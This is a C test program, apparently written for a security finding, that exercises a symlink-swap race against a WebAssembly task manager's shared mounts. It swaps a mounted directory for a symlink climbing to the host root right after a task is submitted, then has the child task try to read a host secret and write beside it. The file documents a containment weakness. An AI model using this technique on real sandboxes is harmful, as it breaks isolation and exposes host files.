/* The swap attack on shared task mounts (containment finding 1), and the task it targets.
 *   attack W SECRET [queued]  shares W/d with a child task as /m, and right after task_submit
 *                             renames W/d away and puts a symlink climbing to the host's /
 *                             in its place; with `queued`, a sleeping task is submitted first
 *                             so the child waits in the queue (run it with --max-tasks 1)
 *                             while the link is planted. Prints the child's result.
 *   middle W SECRET [queued]  the same attack made by a task: W is shared with a task that
 *                             runs `attack` (tasks started by tasks).
 *   child SECRET              lists /m, reads /m/marker, tries to read /m/SECRET (a host path
 *                             relative to the host's /) and to write next to it, and writes
 *                             /m/child-was-here.
 *   sleep MS                  sleeps MS milliseconds.
 * W holds swap.wasm and d/marker. */
#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include "wtm.h"

static char buf[1 << 16];

static int submit(const char *spec, uint32_t *id) {
  return wtm_task_submit(spec, (uint32_t)strlen(spec), id);
}

static void print_result(uint32_t id) {
  uint32_t used = 0;
  int e = wtm_task_wait(id, buf, sizeof buf - 1, &used);
  buf[e == 0 ? used : 0] = 0;
  printf("wait errno %d: %s\n", e, buf);
}

static int attack(const char *w, const char *secret, int queued) {
  char spec[2048], d[512], moved[512];
  uint32_t sleeper = 0, child;
  if (queued) {
    snprintf(spec, sizeof spec, "{\"module\":\"%s/swap.wasm\",\"args\":[\"sleep\",\"800\"]}", w);
    if (submit(spec, &sleeper) != 0) { printf("submit sleeper failed\n"); return 1; }
  }
  snprintf(spec, sizeof spec, "{\"module\":\"%s/swap.wasm\",\"args\":[\"child\",\"%s\"],\"mounts\":[{\"path\":\"%s/d\",\"guest\":\"/m\"}]}", w, secret, w);
  int e = submit(spec, &child);
  snprintf(d, sizeof d, "%s/d", w);
  snprintf(moved, sizeof moved, "%s/d.moved", w);
  /* At once, before the child can have started. */
  int r1 = rename(d, moved);
  int r2 = symlink("../../../../../../../../../../..", d);
  printf("submit %d, rename %d, symlink %d\n", e, r1, r2);
  if (e != 0) return 1;
  print_result(child);
  if (queued) print_result(sleeper);
  return 0;
}

static int middle(const char *w, const char *secret, int queued) {
  char spec[2048];
  uint32_t id;
  snprintf(spec, sizeof spec, "{\"module\":\"%s/swap.wasm\",\"args\":[\"attack\",\"%s\",\"%s\"%s],\"mounts\":[{\"path\":\"%s\",\"guest\":\"%s\"}]}",
           w, w, secret, queued ? ",\"queued\"" : "", w, w);
  if (submit(spec, &id) != 0) { printf("submit middle failed\n"); return 1; }
  print_result(id);
  return 0;
}

static int child(const char *secret) {
  DIR *dir = opendir("/m");
  struct dirent *ent;
  printf("/m:");
  while (dir && (ent = readdir(dir))) if (ent->d_name[0] != '.') printf(" %s", ent->d_name);
  printf("\n");
  if (dir) closedir(dir);
  char line[256] = {0}, path[1024];
  FILE *f = fopen("/m/marker", "r");
  if (f && fgets(line, sizeof line, f)) printf("marker: %s\n", line);
  else printf("marker: errno %d\n", errno);
  if (f) fclose(f);
  snprintf(path, sizeof path, "/m/%s", secret);
  f = fopen(path, "r");
  memset(line, 0, sizeof line);
  if (f && fgets(line, sizeof line, f)) printf("secret: read %s\n", line);
  else printf("secret: errno %d\n", errno);
  if (f) fclose(f);
  char *slash = strrchr(path, '/');
  snprintf(slash + 1, sizeof path - (size_t)(slash + 1 - path), "written.txt");
  f = fopen(path, "w");
  printf("write beside the secret: %s\n", f ? "written" : "refused");
  if (f) fclose(f);
  f = fopen("/m/child-was-here", "w");
  if (f) { fputs("child", f); fclose(f); }
  return 0;
}

int main(int argc, char **argv) {
  if (argc < 3) return 2;
  if (!strcmp(argv[1], "attack") && argc >= 4) return attack(argv[2], argv[3], argc > 4);
  if (!strcmp(argv[1], "middle") && argc >= 4) return middle(argv[2], argv[3], argc > 4);
  if (!strcmp(argv[1], "child")) return child(argv[2]);
  if (!strcmp(argv[1], "sleep")) {
    int ms = atoi(argv[2]);
    struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
    nanosleep(&ts, NULL);
    return 0;
  }
  return 2;
}
